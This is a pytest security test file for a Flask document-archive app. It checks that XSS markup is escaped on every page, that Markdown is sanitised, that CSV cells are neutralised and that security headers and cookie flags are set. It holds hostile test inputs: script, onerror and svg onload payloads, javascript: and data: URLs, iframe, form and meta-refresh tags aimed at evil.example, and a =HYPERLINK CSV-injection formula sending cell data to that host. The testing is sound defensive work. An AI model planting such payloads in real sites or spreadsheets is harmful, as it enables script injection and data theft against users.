"""Security (issue 8), what pages show: markup in documents, queries, corrections, file names and Markdown is
escaped everywhere, CSV cells cannot run as formulas, every response carries the header policy, cookies are
out of reach of scripts.

Read-only questions go to one app over the session's index (``client``); anything that writes gets its
own copy of the corpus and index through the fixtures of :mod:`tests.app.conftest` (``app``, ``dirs``,
``archivist``).
"""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup

from app import create_app
from tests.app.archivist.test_upload import GOOD
from tests.app.archivists import Archivist, api_upload, csrf_of
from tests.app.hostile import KL57, assert_header_policy
from tests.office_files import plan, plan_text

HOSTILE_NOTICE = "12-tb-stttt-kon-tum-2024"  # tests/corpus/thong_bao_ma_doc.txt: <script>, <img onerror>, <svg onload>
SCRIPT = '<script>alert("xss")</script>'
IMG = '"><img src=x onerror=alert(1)>'
SVG = "'><svg onload=alert(2)>"


_BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data):", re.I)


def assert_inert(page: str, *shown: str) -> BeautifulSoup:
    """Nothing in ``page`` runs: the one script is the app's own file, no event handler, no inline style,
    no ``javascript:`` link; and each of ``shown`` is there as text or as an attribute's value (escaped,
    not dropped)."""
    soup = BeautifulSoup(page, "html.parser")
    for script in soup.find_all("script"):
        assert script.get("src") == "/static/app.js" and not script.text.strip(), script
    for tag in soup.find_all(True):
        assert tag.name not in ("iframe", "object", "embed", "base"), tag
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on") and name.lower() != "style", tag
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert not _BAD_SCHEME.match(re.sub(r"[\x00-\x20]", "", str(value))), tag
    text = soup.get_text()
    values = {str(v) for tag in soup.find_all(True) for v in tag.attrs.values()}
    for payload in shown:
        assert payload in text or payload in values, payload
    return soup


# --- XSS ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url,shown",
    [
        (f"/doc/{HOSTILE_NOTICE}", ['<script>alert("xss")</script>', "<img src=x onerror=alert(1)>"]),
        # Highlighted: the <mark>s must not unescape the text around them.
        (f"/doc/{HOSTILE_NOTICE}?q=mã+độc+alert+script+img", ['<script>alert("xss")</script>']),
        (f"/doc/{HOSTILE_NOTICE}?lang=en", ['"><svg onload=alert(2)>']),
        (f"/doc/{HOSTILE_NOTICE}/chain", []),  # shows the number, not the title
        (f"/doc/{HOSTILE_NOTICE}/source", ["<img src=x onerror=alert(1)>"]),
        ("/search?q=mã+độc", ['<script>alert("xss")</script>']),
        ("/search?q=alert+onerror+script", ["alert"]),
        ("/search?province=Kon+Tum", ['<script>alert("xss")</script>']),
        ("/search?q=Kon+Tum&lang=en", ['<script>alert("xss")</script>']),
    ],
)
def test_document_text_with_markup_is_shown_as_text(client, url, shown):
    response = client.get(url)
    assert response.status_code == 200
    assert_inert(response.get_data(as_text=True), *shown)


@pytest.mark.parametrize(
    "url,shown",
    [
        ("/search?q={p}", True),
        ("/search?q={p}&lang=en", True),
        ("/search?issuer={p}", True),  # the active filter's label
        ("/search?role=lead&agency={p}", True),
        ("/search?q=thong+tin&number={p}", True),
        ("/search?{p}=1", True),  # unknown parameter: its name is in the 400 message
        ("/search?q=thong+tin&lang={p}", False),  # not a language: dropped
        (f"/doc/{KL57}?q={{p}}", True),
        ("/doc/{p}", "unless-slash"),  # a 404 names the id; an id with a "/" is no address of a document at all
        ("/doc/{p}/chain", "unless-slash"),
        ("/so/{p}", True),
        ("/so/99-KL/TW{p}", True),  # a number the archive lacks: the 404 names it
        ("/archivist/login?next={p}", False),  # not a path of this site: replaced
        ("/missing?lang={p}", False),
    ],
)
@pytest.mark.parametrize("payload", [SCRIPT, IMG, SVG, "javascript:alert(3)"], ids=["script", "img", "svg", "js-url"])
def test_query_strings_are_escaped_on_every_page(client, url, shown, payload):
    from urllib.parse import quote

    response = client.get(url.format(p=quote(payload, safe="")))
    assert response.status_code < 500
    if shown == "unless-slash":
        shown = "/" not in payload
    assert_inert(response.get_data(as_text=True), *([payload] if shown else []))


# It implements 57-KL/TW (so it shows in that chain) and cites 98-CT/TW, which the archive lacks (so /missing lists it).
HOSTILE_PLAN = dict(
    plan(number=77, topic=f"phòng chống mã độc {SCRIPT}"),
    opening=(
        "Thực hiện Kết luận số 57-KL/TW, ngày 15/6/2023 của Bộ Chính trị và Chỉ thị số 98-CT/TW của Ban Bí thư, "
        "Ban Thường vụ Huyện uỷ Lộc Bình ban hành Kế hoạch như sau:"
    ),
)
HOSTILE_NAME = "<svg onload=alert(4)>k.txt"  # a legal file name: stored renamed, shown as given


def test_corrections_and_file_names_with_markup_are_escaped_on_every_page(archivist, app):
    """An archivist's typing (or a stolen session's) must not become script on any page, public or not."""
    response = archivist.upload((HOSTILE_NAME, plan_text(HOSTILE_PLAN).encode()))
    review = response.headers["Location"]
    pages = {"review": archivist.client.get(review).get_data(as_text=True)}
    # A refused correction shows the typed values again: still escaped.
    refused = archivist.confirm(review, **{"p1-issuer": IMG, "p1-date": f"31/02/2025{SVG}"})
    assert refused.status_code == 400
    pages["review-refused"] = refused.get_data(as_text=True)
    form = archivist.review_form(review)
    form.update(
        {
            "p1-issuer": IMG,
            "p1-title": SCRIPT,
            "p1-signer": SVG,
            "p1-signer_title": IMG,
            "p1-doc_type": SVG,
            "p1-province": SCRIPT,
            "p1-role-0-agency": IMG,
            "p1-role-0-anchor": '" onfocus="alert(5)',
        }
    )
    confirmed = archivist.client.post(review + "/confirm", data=form, follow_redirects=True)
    assert confirmed.status_code == 200
    pages["manage-with-flash"] = confirmed.get_data(as_text=True)
    doc_id = confirmed.request.path.rsplit("/", 1)[-1]
    assert doc_id.startswith("77-kh-hu")
    client = app.test_client()
    for name, url in [
        ("document", f"/doc/{doc_id}"),
        ("document-highlighted", f"/doc/{doc_id}?q=alert+img"),
        ("chain", f"/doc/{doc_id}/chain"),
        ("implemented", f"/doc/{KL57}"),
        ("chain-57", f"/doc/{KL57}/chain"),
        ("search", "/search?q=phong+chong+ma+doc"),
        ("search-facets", "/search?q=ke+hoach"),
        ("missing", "/missing"),
        ("source", f"/doc/{doc_id}/source"),
    ]:
        response = client.get(url)
        assert response.status_code == 200, name
        pages[name] = response.get_data(as_text=True)
    for name, url in [
        ("audit", "/archivist/audit"),
        ("home", "/archivist/"),
        ("manage", f"/archivist/doc/{doc_id}"),
        ("withdraw", f"/archivist/doc/{doc_id}/withdraw"),
    ]:
        pages[name] = archivist.client.get(url).get_data(as_text=True)
    assert set(pages) >= {"review", "audit", "manage", "document", "search"}
    for name, page in pages.items():
        assert "<script>alert" not in page and "<img src=x" not in page and "<svg onload" not in page, name
        assert_inert(page)
    # Escaped, not dropped: what was typed is what the pages show.
    assert_inert(pages["document"], IMG, SCRIPT, SVG)
    assert_inert(pages["chain-57"], IMG, SCRIPT)  # issuer, title
    assert_inert(pages["missing"], IMG, SVG)  # the citer's issuer and type
    assert_inert(pages["search-facets"], IMG, SCRIPT)  # the issuer and province facets
    assert_inert(pages["audit"], IMG, HOSTILE_NAME)
    assert_inert(pages["review"], HOSTILE_NAME)


def test_a_discarded_upload_with_markup_in_its_name_is_escaped_in_the_flash(archivist):
    review = archivist.upload((HOSTILE_NAME, GOOD)).headers["Location"]
    token = csrf_of(archivist.client.get(review))
    home = archivist.client.post(review + "/discard", data={"csrf_token": token}, follow_redirects=True)
    assert home.status_code == 200
    assert_inert(home.get_data(as_text=True), HOSTILE_NAME)


HOSTILE_MARKDOWN = """# HƯỚNG DẪN

## kiểm tra <b>mã độc</b> trên cổng thông tin

Căn cứ Kế hoạch số 06-KH/BCĐ của Ban Chỉ đạo Công tác thông tin đối ngoại tỉnh Lạng Sơn, Văn phòng hướng dẫn:

1. Khung: <iframe src="https://evil.example/"></iframe> <object data="x.swf"></object> <embed src="x.swf">
2. Liên kết: [một](javascript:alert(1)) [hai](JaVaScRiPt:alert(2)) [ba](data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==) [bốn](vbscript:msgbox(4)) <a href="jav&#x09;ascript:alert(5)">năm</a>
3. Ảnh và kiểu: ![sáu](javascript:alert(6)) <img src="x" onerror="alert(7)"> <div style="background:url(javascript:alert(8))">tám</div>
4. Biểu mẫu: <form action="https://evil.example/"><input name="x"><button formaction="javascript:alert(9)">chín</button></form>
5. Khác: <svg><script>alert(10)</script></svg> <math><mi xlink:href="javascript:alert(11)">mười một</mi></math> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
6. Giữ nguyên **đậm**, *nghiêng* và [liên kết thường](https://thuvienphapluat.vn/).

Nơi nhận:
- Lưu VP.
"""  # noqa: E501 (hostile input, written as it comes, one per line)


def test_a_markdown_original_is_rendered_without_anything_that_runs(app):
    response = api_upload(app.test_client(), ("huong-dan-ma-doc.md", HOSTILE_MARKDOWN.encode()))
    assert response.status_code == 201
    doc_id = response.get_json()["documents"][0]["doc_id"]
    page = app.test_client().get(f"/doc/{doc_id}/source")
    assert page.status_code == 200
    soup = assert_inert(page.get_data(as_text=True))
    rendered = soup.find(class_="markdown")
    assert not rendered.find_all(["form", "input", "button", "meta", "link", "style"])
    assert "alert" not in "".join(str(img) for img in rendered.find_all("img"))
    # What Markdown is for still works.
    assert rendered.find("strong").text == "đậm" and rendered.find("em").text == "nghiêng"
    assert rendered.find("a", href="https://thuvienphapluat.vn/").get("rel") == ["noopener", "noreferrer", "nofollow"]


def test_csv_export_cells_cannot_run_as_formulas(archivist, app):
    review = archivist.upload(("k.txt", GOOD)).headers["Location"]
    archivist.confirm(
        review,
        **{"p1-issuer": '=HYPERLINK("https://evil.example/?"&A1,"Bấm")', "p1-title": "+1-1", "p1-signer": "@SUM(1+1)"},
    )
    rows = app.test_client().get("/export.csv?q=chuyen+doi+so").get_data(as_text=True)
    assert "'=HYPERLINK(" in rows and "'+1-1" in rows
    assert not re.search(r'(^|,)"?[=+@]', rows, re.M)


# --- response headers --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "method,url,status",
    [
        ("GET", "/", 200),
        ("GET", "/search?q=thong+tin", 200),
        ("GET", "/search.json?q=thong+tin", 200),
        ("GET", f"/doc/{KL57}", 200),
        ("GET", f"/doc/{KL57}.json", 200),
        ("GET", f"/doc/{KL57}/source", 200),
        ("GET", "/export.csv", 200),
        ("GET", "/static/style.css", 200),
        ("GET", "/static/app.js", 200),
        ("GET", "/archivist/login", 200),
        ("GET", "/archivist/", 302),
        ("GET", "/nowhere", 404),
        ("GET", "/nowhere.json", 404),
        ("GET", "/search?page=abc", 400),
        ("GET", "/search.json?page=abc", 400),
        ("POST", "/search", 405),
        ("POST", "/archivist/login", 400),
        ("POST", "/documents.json", 401),
    ],
)
def test_every_response_carries_the_header_policy(client, method, url, status):
    response = client.open(url, method=method)
    assert response.status_code == status
    assert_header_policy(response)


def test_a_server_error_is_a_plain_page_with_the_same_headers(dirs):
    flask_app = create_app(
        {"TESTING": True, "CORPUS_DIR": str(dirs[0]), "INDEX_DIR": str(dirs[1]), "SYNC_ON_START": False}
    )

    @flask_app.route("/hong")
    def broken():
        raise RuntimeError("secret detail /etc/passwd")

    response = flask_app.test_client().get("/hong")
    assert response.status_code == 500
    body = response.get_data(as_text=True)
    assert "Lỗi máy chủ" in body and "secret detail" not in body and "Traceback" not in body
    assert_header_policy(response)


def test_cookies_are_out_of_reach_of_scripts_and_other_sites(app):
    person = Archivist(app.test_client())
    response = person.login()
    session_cookie = next(c for c in response.headers.getlist("Set-Cookie") if c.startswith("session="))
    assert "HttpOnly" in session_cookie and "SameSite=Lax" in session_cookie and "Expires=" in session_cookie
    response = person.client.get("/search?lang=en")
    lang_cookie = next(c for c in response.headers.getlist("Set-Cookie") if c.startswith("lang="))
    assert "HttpOnly" in lang_cookie and "SameSite=Lax" in lang_cookie
